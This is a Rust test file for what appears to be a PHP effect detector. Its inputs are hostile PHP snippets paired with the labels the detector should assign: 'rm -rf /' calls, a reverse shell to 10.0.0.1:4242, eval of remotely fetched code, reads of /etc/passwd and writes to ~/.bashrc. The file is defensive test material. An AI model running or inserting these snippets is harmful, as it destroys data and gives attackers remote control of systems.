// SPDX-License-Identifier: Apache-2.0 OR MIT

use super::check;

#[test]
fn programs_files_and_network() {
    check(
        "php",
        &[
            (r#"system("rm -rf /");"#, "shell rm -rf /"),
            (r"<?php echo shell_exec('ls ' . $_GET['x']); ?> system('no')", "shell ls *?"),
            ("echo `id`;", "shell id"),
            (r#"$d = "/etc"; exec("rm -rf $d/x");"#, "shell rm -rf /etc/x"),
            (r#"$d = "/etc"; exec("rm -rf {$d}/x");"#, "shell rm -rf /etc/x"),
            (r"$f = 'sys' . 'tem'; $f('id');", "shell id"),
            (r"\SYSTEM('id');", "shell id"),
            (r#"@unlink('/etc/x'); rmdir("a");"#, "delete /etc/x; delete a"),
            (r"file_put_contents(getenv('HOME') . '/.bashrc', 'x', FILE_APPEND);", "write ~/.bashrc"),
            (r"$h = fopen('/etc/passwd', 'r'); fopen('b', 'a');", "read /etc/passwd; append b"),
            (r"array_map('unlink', glob('/home/*'));", "delete /home/*#"),
            (r#"foreach (glob("x/*.log") as $f) { unlink($f); }"#, "delete x/*.log#"),
            (r"echo file_get_contents('https://x.io/a');", "connect https://x.io/a"),
            (r"eval(file_get_contents('http://x.io/a'));", "connect http://x.io/a; runs-fetched"),
            (r"eval(base64_decode('dW5saW5rKCd4Jyk7'));", "delete x"),
            (r"eval($x);", "runs-unknown"),
            (r"assert($_POST['x']);", "runs-unknown"),
            (
                r"rename('a', '/b'); copy('c', 'd'); chmod('e', 0777);",
                "move a; write /b; read c; write d; permit e",
            ),
            (
                r#"$sock=fsockopen("10.0.0.1",4242);exec("/bin/sh -i <&3 >&3 2>&3");"#,
                "connect tcp://10.0.0.1:4242; shell /bin/sh -i <&3 >&3 2>&3; reverse-shell",
            ),
            ("$x = <<<EOT\nrm -rf /etc\nEOT;\nsystem($x);", "shell rm -rf /etc\n"),
        ],
    );
}

#[test]
fn what_only_looks_like_it() {
    check(
        "php",
        &[
            (r#"echo "system('rm -rf /')";"#, ""),
            ("// system('rm');\n# unlink('x');\n/* exec('x') */", ""),
            (r"<html>system('x')</html>", "shell x"),
            (r"<html><?php echo 1; ?>system('x')</html>", ""),
            (r#"$pdo->exec("drop table x");"#, ""),
            (r"$x = ['unlink' => 'a']; echo $x['unlink'];", ""),
            (r"function f($a) { return $a . 'system'; } echo f(1);", ""),
            (r"echo json_encode(['a' => 1]), PHP_VERSION;", ""),
            (r"file_put_contents('build/x.txt', 'y');", "write build/x.txt"),
        ],
    );
}
